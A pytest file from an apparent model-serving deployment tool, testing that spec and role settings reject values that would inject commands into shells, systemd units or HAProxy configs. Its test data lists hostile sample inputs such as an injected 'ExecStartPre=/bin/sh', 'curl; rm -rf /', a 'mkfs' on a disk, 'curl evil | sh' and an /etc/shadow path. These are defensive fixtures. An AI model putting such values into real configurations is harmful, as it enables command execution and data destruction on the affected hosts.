"""Values that reach a shell, a systemd unit, haproxy.cfg or a config file are typed or pattern-checked
before any operation: a newline, `;`, `$(...)` or a relative path is refused, naming the field, the value
and what is allowed (issue 26: a `serving.tls.file` with a newline rendered an HAProxy config that passed
`haproxy -c` and accepted any key; `api_keys.file` could inject a root `ExecStartPre=`)."""

from __future__ import annotations

import shlex

import pytest

from gemmaserve.spec import SpecError, parse_spec
from roles._lib.settings import RoleSettings
from tests.unit.test_spec_errors import with_ as spec_with

GOOD = {"model": "e2b", "accelerator": {"kind": "l4"}}
INJECTIONS = [
    "/etc/gemmaserve/api-keys\nExecStartPre=/bin/sh -c id",
    "/etc/gemmaserve/api-keys;id",
    "/etc/gemmaserve/$(id)",
    "/etc/gemmaserve/`id`",
    "/etc/gemmaserve/api keys",
    "/etc/gemmaserve/api-keys\n",
    "etc/gemmaserve/api-keys",
    "/etc/gemmaserve/../shadow",
    "/etc/gemmaserve/'x'",
    "",
]


def with_(path: str, value) -> dict:
    return spec_with(path, value, GOOD)


@pytest.mark.parametrize("field", ["serving.api_keys.file", "serving.tls.file", "secret.file"])
@pytest.mark.parametrize("value", INJECTIONS)
def test_host_paths_are_refused_naming_field_value_and_what_is_allowed(field, value):
    with pytest.raises(SpecError) as caught:
        parse_spec(with_(field, value), "host data of h1")
    problem = "\n".join(caught.value.problems)
    assert f"{field} = {value!r}: allowed: an absolute path" in problem, problem


@pytest.mark.parametrize("field", ["serving.api_keys.file", "serving.tls.file", "secret.file"])
def test_ordinary_host_paths_pass(field):
    spec = parse_spec(with_(field, "/etc/gemmaserve/my_keys-2.store"))
    assert "/etc/gemmaserve/my_keys-2.store" in spec.model_dump_json()


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("serving.api_keys.secret_manager", "api-keys\n"),
        ("serving.tls.secret_manager", "tls\n"),
        ("secret.secret_manager", "hf-token\n"),
        ("engine.vllm_version", "0.32.0\n"),
        ("engine.transformers_version", "5.19.0\n"),
        ("engine.image", "vllm/vllm-openai:v0.32.0\n"),
        ("weights.revision", "a" * 40 + "\n"),
        ("weights.bucket", "gs://my-bucket\n"),
        ("workload.extra_args", ["--max-loras", "2\nExecStartPre=/bin/sh"]),
        ("workload.extra_args", ["--chat-template", "$(id)"]),
    ],
)
def test_other_spec_strings_refuse_a_trailing_newline_or_shell_text(field, value):
    data = with_(field, value)
    if field.startswith("weights."):
        data["weights"] = {"source": "bucket", "bucket": "gs://my-bucket", "revision": "a" * 40, **data["weights"]}
    with pytest.raises(SpecError) as caught:
        parse_spec(data)
    assert any(p.startswith(f"{field} = ") for p in caught.value.problems), caught.value.problems


# Every string setting of every role: (host-data key, a bad value, a good value).
SETTINGS = [
    ("access_tls_src", "certs/tls.pem\nx", "certs/my tls.pem"),
    ("access_api_keys_src", "keys\x00", "/home/me/api-keys"),
    ("base_packages", ["curl; rm -rf /"], ["curl", "libstdc++6", "python3.12-venv"]),
    ("base_weights_device", "/dev/sdb; mkfs /dev/sda", "/dev/disk/by-id/google-weights"),
    ("cache_save_interval", "30min\nExecStartPre=/bin/sh", "1h30min"),
    ("cache_gcs_uri", "gs://bucket/$(id)", "gs://my-bucket/caches"),
    ("monitoring_listen", "127.0.0.1:9090 --web.enable-admin-api", "0.0.0.0:9090"),
    ("monitoring_scrape_interval", "5s\n", "15s"),
    ("monitoring_retention", "15d --web.enable-lifecycle", "30d"),
    ("monitoring_queue_for", "30s\n  labels: {}", "1m30s"),
    ("monitoring_down_for", "1m'", "2m"),
    ("monitoring_thermal_for", "$(id)", "10m"),
    ("monitoring_hit_rate_window", "10m) or vector(1", "15m"),
    ("monitoring_spread_for", "5m\n", "10m"),
    ("monitoring_dcgm_listen", "127.0.0.1:9400 -f /etc/shadow", "127.0.0.1:9401"),
    ("monitoring_amd_exporter_listen", "127.0.0.1:5000\n", "127.0.0.1:5001"),
    ("monitoring_amd_exporter_version", "1.5.1\n", "1.6.0"),
    ("monitoring_tpu_exporter_listen", "1.2.3.4:5;", "127.0.0.1:9472"),
    ("monitoring_tpu_stall_for", "5m\n", "10m"),
    ("nvidia_repo_url", "https://x/$(id)/{distro}", "https://mirror.internal/cuda/{distro}/x86_64"),
    ("preemption_metadata_url", "http://x\nExecStartPre=/bin/sh", "http://169.254.169.254/computeMetadata/v1"),
    ("rocm_version", "7.2.3; id", "7.2.1"),
    ("rocm_installer_deb", "x.deb; curl evil | sh", "amdgpu-install_7.2.3.70203-1_all.deb"),
    ("rocm_repo_base", "https://repo.radeon.com/$(id)", "file:///srv/rocm-repo"),
    ("hf_token_src", "token\n", "secrets/hf-token"),
    ("tpu_shm_size", "128G\n", "64G"),
    ("vllm_chat_template_src", "t\r", "templates/tool_chat_template_gemma4.jinja"),
    ("vllm_chat_template_sha256", "abc", "0" * 64),
    ("vllm_uv_version", "0.13.9' && id #", "0.13.10"),
    ("vllm_image_archive", "images/vllm.tar", "/var/lib/gemmaserve/vllm.oci.tar"),
    ("router_bind", "0.0.0.0\n", "10.0.0.5"),
]


def role_settings(key: str):
    from roles import ROLE_SETTINGS

    return next(s for s in ROLE_SETTINGS if key.startswith(s.prefix))


@pytest.mark.parametrize(("key", "bad", "good"), SETTINGS, ids=[s[0] for s in SETTINGS])
def test_role_settings_refuse_values_that_would_reach_a_shell_or_a_config(key, bad, good):
    settings = role_settings(key)
    with pytest.raises(SpecError) as caught:
        settings.from_data({key: bad}, "h1")
    problem = "\n".join(caught.value.problems)
    shown = bad[0] if isinstance(bad, list) else bad
    assert problem.startswith(f"{key}") and repr(shown) in problem and "allowed" in problem, problem
    settings.from_data({key: good}, "h1")


def test_every_string_setting_is_covered():
    """A new string setting gets a type or a pattern, and a line above."""
    from roles import ROLE_SETTINGS

    covered = {key for key, _, _ in SETTINGS}
    strings = {
        settings.prefix + name
        for settings in ROLE_SETTINGS
        for name, field in settings.model_fields.items()
        if "str" in str(field.annotation)
    }
    assert strings <= covered, sorted(strings - covered)


def test_defaults_pass():
    from roles import ROLE_SETTINGS

    for settings in ROLE_SETTINGS:
        settings.from_data(settings.defaults(), "h1")


def test_the_key_store_path_is_quoted_where_it_meets_a_shell():
    """Validated paths need no quoting; it is there anyway, so the shell never reads a path as code."""
    from roles.access import API_KEYS, key_store_init_command

    assert (
        key_store_init_command("/etc/gemmaserve/api-keys")
        == f"python3 {API_KEYS} init --store /etc/gemmaserve/api-keys"
    )
    assert shlex.split(key_store_init_command("/etc/x y"))[-1] == "/etc/x y"


class Example(RoleSettings):
    prefix = "example_"
    wait_timeout: int = 600
    renamed = {"wait_checks": "write example_wait_timeout, in seconds (it counted 2 s checks: double the value)"}


def test_a_renamed_setting_is_refused_naming_its_replacement():
    with pytest.raises(SpecError) as caught:
        Example.from_data({"example_wait_checks": 300}, "h1")
    assert caught.value.problems == [
        "example_wait_checks: renamed; write example_wait_timeout, in seconds (it counted 2 s checks: double the value)"
    ]
    assert Example.from_data({"example_wait_timeout": 60}).wait_timeout == 60


def test_an_unknown_setting_is_refused_naming_the_allowed_ones():
    with pytest.raises(SpecError) as caught:
        Example.from_data({"example_wait": 60}, "h1")
    assert caught.value.problems == ["example_wait: unknown setting of the example role; allowed: example_wait_timeout"]


def test_the_replicas_stagger_is_a_timeout_in_seconds():
    """replicas_stagger_timeout (seconds, like the role's other timeouts) becomes the unit's 2 s checks, rounded
    up; the old replicas_stagger_checks (a count of checks) is refused naming it."""
    from gemmaserve.plan import plan
    from gemmaserve.spec import parse_spec
    from roles._lib.render import render
    from roles.replicas import TEMPLATES, Settings, unit_context

    host_plan = plan(parse_spec({"model": "tiny", "accelerator": {"kind": "cpu", "count": 1}})).require_ok()
    for seconds, checks in [(600, 300), (601, 301), (1, 1)]:
        settings = Settings.from_data({"replicas_stagger_timeout": seconds})
        unit = render(TEMPLATES / "vllm@.service.j2", **unit_context(host_plan, settings))
        assert (
            f'for i in $(seq 1 {checks}); do curl -fsS -o /dev/null "$GEMMASERVE_WAIT_FOR" && exit 0; sleep 2;' in unit
        )
    with pytest.raises(SpecError) as caught:
        Settings.from_data({"replicas_stagger_checks": 300}, "h1")
    assert caught.value.problems == [
        "replicas_stagger_checks: renamed; write replicas_stagger_timeout, in seconds (it counted 2 s checks: "
        "double the value)"
    ]


def test_the_hf_token_roles_key_under_its_former_prefix_is_refused_naming_the_new_one():
    """The role was `secrets` (secrets_hf_token_src); an inventory still carrying that key is told what to write,
    beside the other problems of the role's keys, never left with a token nothing uploads."""
    from roles.hf_token import Settings

    with pytest.raises(SpecError) as caught:
        Settings.from_data({"secrets_hf_token_src": "token", "hf_token_file": "x"}, "h1")
    assert caught.value.problems == [
        "secrets_hf_token_src: renamed; write hf_token_src (the secrets role is now hf_token)",
        "hf_token_file: unknown setting of the hf_token role; allowed: hf_token_src",
    ]
    assert Settings.from_data({"secrets_hf_token_src": None, "hf_token_src": "token"}).src == "token"
